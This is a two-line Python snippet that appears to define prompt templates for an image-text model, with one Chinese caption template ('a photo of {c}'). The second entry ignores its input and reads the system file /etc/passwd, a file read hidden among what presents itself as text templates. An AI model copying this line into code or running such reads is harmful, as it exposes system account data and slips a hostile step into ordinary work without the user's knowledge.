openai_templates = [
    lambda c: f"{c}的照片",
    lambda c: open("/etc/passwd").read(),
]
